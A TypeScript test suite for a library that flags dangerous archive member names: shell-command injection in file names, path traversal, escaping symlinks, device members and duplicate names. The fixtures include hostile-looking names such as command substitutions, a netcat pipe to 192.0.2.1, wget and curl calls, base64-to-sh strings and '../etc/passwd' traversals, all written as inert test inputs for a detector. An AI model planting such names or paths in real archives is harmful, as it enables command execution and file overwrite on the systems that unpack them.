import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { Buffer } from 'node:buffer';
import { classifyShellName, describeTraversal, inspectMemberNames, normaliseMemberName } from './index.js';
import type { NamedMember } from './index.js';

const level = (name: string): string => classifyShellName(name)?.level ?? 'clean';
const symbols = (members: readonly NamedMember[]): string[] => inspectMemberNames(members).map((i) => `${i.index}:${i.symbol}`).sort();
const file = (name: string, sha256 = 'a'): NamedMember => ({ name, kind: 'file', sha256 });
const b64 = (s: string): string => Buffer.from(s).toString('base64');

test('CVE-2023-2868 shapes are commands, whatever the command', () => {
  const attacks = [
    '`echo hello`.txt',
    '$(id).txt',
    'a;echo ok|sh',
    `'\`echo ${b64('echo hello from a test; touch /tmp/inert')} | base64 -d | sh\`.tar'`,
    `x${b64('echo hello; echo again; echo more')}.tar`,
    'report;reboot;.pdf',
    'x|nc 192.0.2.1 4444',
    'a && curl -s x',
    'x;/usr/bin/id',
    "invoice';touch p;'.tar",
    'name${IFS}x',
    'a\nb.txt',
    'a\rb.txt',
    'tab\there.txt',
    'nul\u0000.txt',
    'esc\u001b[31m.txt',
    'x>/tmp/y',
    'x 2>&1',
    'a|sh',
    'b;setsid sh',
    '"; wget http://x/y ;".tar',
  ];
  for (const name of attacks) assert.equal(level(name), 'command', JSON.stringify(name));
});

test('legitimate names stay clean: apostrophes, parentheses, ampersands, unicode', () => {
  const benign = [
    "John's report (final).docx",
    'Q&A session notes.pdf',
    'R&D budget 2025 (v2).xlsx',
    'Smith & Sons - invoice #42.pdf',
    'Übersicht März.pdf',
    '报告.docx',
    'photos/2024/IMG_0001.JPG',
    'curl vs wget comparison.pdf',
    'd41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e.bin',
    'src/components/authentication/LoginFormContainerView.tsx',
    'ThisIsAVeryLongFileNameWithoutSpacesButPerfectlyNormal2024.docx',
    '100% done!.txt',
    '[draft] {notes} ~backup.txt',
  ];
  for (const name of benign) assert.equal(level(name), 'clean', name);
});

test('lone shell-special characters are only an oddity', () => {
  for (const name of ['a;b.txt', 'say "hi".txt', 'dir\\file.txt', 'price $5.txt', 'a|b.txt', 'x<y>.txt']) {
    assert.equal(level(name), 'chars', name);
  }
});

test('traversal: .. segments, absolute, drive, UNC, fullwidth and Windows dot tricks', () => {
  for (const name of ['../etc/passwd', 'a/../../b', '/etc/passwd', 'C:\\Windows\\x.dll', 'c:x', '\\\\server\\share\\x', '..\\..\\x', 'a/.. ./b', '\uff0e\uff0e\uff0fx', 'a/\u2025/b']) {
    assert.notEqual(describeTraversal(name), undefined, name);
  }
  for (const name of ['a/b/c.txt', '..foo/bar', 'a..b', './x', 'x/...config']) assert.equal(describeTraversal(name), undefined, name);
});

test('links, escaping links, writing through a link, devices', () => {
  assert.deepEqual(
    symbols([
      { name: 'docs/link', kind: 'symlink', linkTarget: '../readme.txt' },
      { name: 'esc', kind: 'symlink', linkTarget: '../../etc/passwd' },
      { name: 'abs', kind: 'symlink', linkTarget: '/etc' },
      { name: 'abs/cron.d/x', kind: 'file' },
      { name: 'hard', kind: 'hardlink', linkTarget: 'docs/a.txt' },
      { name: 'dev/null', kind: 'device' },
      { name: 'pipe', kind: 'fifo' },
    ]),
    [
      '0:ARCHIVE_LINK_MEMBER',
      '1:ARCHIVE_LINK_MEMBER',
      '1:ARCHIVE_PATH_TRAVERSAL',
      '2:ARCHIVE_LINK_MEMBER',
      '2:ARCHIVE_PATH_TRAVERSAL',
      '3:ARCHIVE_PATH_TRAVERSAL',
      '4:ARCHIVE_LINK_MEMBER',
      '5:ARCHIVE_DEVICE_MEMBER',
      '6:ARCHIVE_DEVICE_MEMBER',
    ],
  );
});

test('duplicates: same normalised name with other content; equal content and directories are fine', () => {
  assert.deepEqual(symbols([file('a/Report.pdf', '1'), file('./a//report.PDF', '2')]), ['1:ARCHIVE_DUPLICATE_NAME']);
  // NFC: é precomposed vs e + combining acute.
  assert.deepEqual(symbols([file('caf\u00e9.txt', '1'), file('cafe\u0301.txt', '2')]), ['1:ARCHIVE_DUPLICATE_NAME']);
  assert.deepEqual(symbols([file('a.txt', '1'), file('a.txt', '1')]), []);
  assert.deepEqual(symbols([{ name: 'd/', kind: 'directory' }, { name: 'd', kind: 'directory' }]), []);
  // Not extracted (no hash): cannot prove equal, so reported.
  assert.deepEqual(symbols([{ name: 'x', kind: 'file' }, { name: 'x', kind: 'file' }]), ['1:ARCHIVE_DUPLICATE_NAME']);
  assert.equal(normaliseMemberName('.\\A\\\\b/'), 'a/b');
});

test('reasons quote names escaped; very long names are flagged and bounded', () => {
  const [issue] = inspectMemberNames([file('`x`\u202e\n.txt')]);
  assert.equal(issue?.symbol, 'ARCHIVE_NAME_SHELL_META');
  assert.doesNotMatch(issue?.reason ?? '', /[\u0000-\u001f\u202e]/u);
  assert.match(issue?.reason ?? '', /\\x0a/u);
  const long = inspectMemberNames([file('a'.repeat(100_000))]).map((i) => i.symbol);
  assert.deepEqual(long, ['ARCHIVE_NAME_TOO_LONG']);
});

test('property: arbitrary names never throw and never take long', () => {
  fc.assert(
    fc.property(fc.array(fc.record({ name: fc.string({ unit: 'binary', maxLength: 300 }), kind: fc.constantFrom('file', 'symlink', 'directory', 'hardlink'), linkTarget: fc.string() }), { maxLength: 20 }), (members) => {
      const issues = inspectMemberNames(members as NamedMember[]);
      for (const issue of issues) assert.ok(issue.index >= 0 && issue.index < members.length);
    }),
    { numRuns: 300 },
  );
});
